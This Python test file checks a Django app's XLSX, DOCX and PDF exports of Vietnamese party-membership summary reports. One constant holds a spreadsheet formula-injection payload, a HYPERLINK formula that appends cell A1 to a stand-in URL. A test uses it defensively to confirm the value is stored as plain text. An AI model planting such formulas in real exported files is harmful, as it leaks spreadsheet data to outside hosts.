import datetime as dt
import io

import docx
import openpyxl
from django.utils import translation
from django.utils.translation import gettext as _
from pypdf import PdfReader

from pdms.accounts.scope import system_scope
from pdms.organizations.services import organization_rename
from pdms.reporting.exports import summary_docx, summary_filename, summary_pdf, summary_xlsx
from pdms.reporting.summary import summary_report

from .conftest import AS_OF

HOSTILE_NAME = '=HYPERLINK("http://x"&A1,"y")'


def _vi(text):
    with translation.override("vi"):
        return _(text)


def test_the_workbook_holds_the_figures_with_their_indicator_keys(term_report):
    book = openpyxl.load_workbook(io.BytesIO(summary_xlsx(term_report)))
    sheet = book.worksheets[0]
    assert sheet["D1"].value == "ĐẢNG CỘNG SẢN VIỆT NAM" and "ngày 30 tháng 06 năm 2022" in sheet["D2"].value
    assert sheet["A5"].value == _vi("Report").upper() and "2020–2025" in sheet["A6"].value
    by_key = {}
    for label, number, of, percent, key in sheet.iter_rows(min_row=12, values_only=True):
        by_key.setdefault(key, (label, number, of, percent))
    assert by_key["admissions"][1] == 3
    assert by_key["quota_achievement"][1:] == (3, 3, 100.0)
    assert by_key["units_meeting_quota"][1:] == (1, 2, 50.0)
    assert by_key["admissions_change_on_previous_year"][3] == 200.0


def test_the_workbook_lists_the_ranked_units_and_draws_native_charts(term_report):
    book = openpyxl.load_workbook(io.BytesIO(summary_xlsx(term_report)))
    units, series = book.worksheets[1], book.worksheets[2]
    rows = [row[1:7] for row in units.iter_rows(min_row=3, values_only=True)]
    assert rows == [("X01", "Đảng bộ xã Hà Mòn", 1, 2, 200.0, 1), ("X02", "Đảng bộ xã Ngọc Wang", 2, 1, 50.0, -1)]
    assert [row for row in series.iter_rows(min_row=3, values_only=True)] == [("2020", 0), ("2021", 1), ("2022", 2)]
    assert len(units._charts) == 1 and len(series._charts) == 1


def test_a_unit_named_like_a_formula_is_plain_text_in_the_workbook(progress, plan):
    organization_rename(organization=progress.commune_a, name=HOSTILE_NAME, on=dt.date(2011, 1, 1), actor=None)
    report = summary_report(system_scope(), plan, progress.district, AS_OF, "term")
    cell = openpyxl.load_workbook(io.BytesIO(summary_xlsx(report))).worksheets[1]["C3"]
    assert (cell.value, cell.data_type) == (HOSTILE_NAME, "s")


def test_the_word_document_is_a_party_report_with_the_figures_and_two_chart_images(term_report):
    document = docx.Document(io.BytesIO(summary_docx(term_report)))
    header = document.tables[0]
    assert "ĐẢNG ỦY HUYỆN ĐẮK HÀ" in header.cell(0, 0).text and "…………" in header.cell(0, 0).text
    assert "ĐẢNG CỘNG SẢN VIỆT NAM" in header.cell(0, 1).text and "Đắk Hà, ngày 30 tháng 06 năm 2022" in header.cell(0, 1).text
    text = "\n".join(p.text for p in document.paragraphs)
    assert _vi("Report").upper() in text and "09-KH/HU" in text
    assert "3/3 (100,00%)" in text and "1/2 (50,00%)" in text
    units = document.tables[1]
    assert [[c.text for c in row.cells][1:6] for row in units.rows[1:]] == [
        ["X01", "Đảng bộ xã Hà Mòn", "1", "2", "200,00%"], ["X02", "Đảng bộ xã Ngọc Wang", "2", "1", "50,00%"],
    ]
    assert len(document.inline_shapes) == 2


def test_the_pdf_shows_the_figures_and_the_charts(term_report, pdf_font):
    content = summary_pdf(term_report)
    pdf = PdfReader(io.BytesIO(content))
    text = " ".join(page.extract_text() for page in pdf.pages)
    assert "ĐẢNG CỘNG SẢN VIỆT NAM" in text and "09-KH/HU" in text
    assert "3/3 (100,00%)" in text and "1/2 (50,00%)" in text
    assert "Đảng bộ xã Hà Mòn" in text and "200,00%" in text
    images = sum(len(page.images) for page in pdf.pages)
    assert images == 2 and len(pdf.pages) >= 2


def test_the_file_name_is_ascii(term_report):
    name = summary_filename("term", "H01", term_report.as_of, "pdf")
    assert name == "bao-cao-phat-trien-dang-vien-H01-nhiem-ky-20220630.pdf" and name.isascii()


def test_the_figures_do_not_depend_on_the_request_language(term_report):
    with translation.override("en"):
        content = summary_xlsx(term_report)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet["D1"].value == "ĐẢNG CỘNG SẢN VIỆT NAM"
    assert (sheet.cell(12, 5).value, sheet.cell(12, 2).value) == ("admissions", 3)


def test_a_units_shortfall_reads_as_one_in_the_files(term_report):
    # Ngọc Wang's quota was cut to 2 and it admitted 1.
    assert [row.excess for row in term_report.units] == ["+1", "còn thiếu 1"]
    sheet = openpyxl.load_workbook(io.BytesIO(summary_xlsx(term_report))).worksheets[1]
    [cell] = [row[6] for row in sheet.iter_rows() if row[2].value == "Đảng bộ xã Ngọc Wang"]
    assert cell.value == -1 and '"còn thiếu "' in cell.number_format
